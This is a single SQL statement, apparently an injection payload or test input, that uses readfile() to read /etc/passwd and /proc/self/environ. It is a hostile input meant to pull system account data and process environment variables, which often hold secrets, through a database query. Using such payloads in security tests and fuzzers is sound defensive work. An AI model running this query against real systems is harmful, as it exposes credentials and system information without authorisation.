SELECT readfile('/etc/passwd'), readfile('/proc/self/environ')
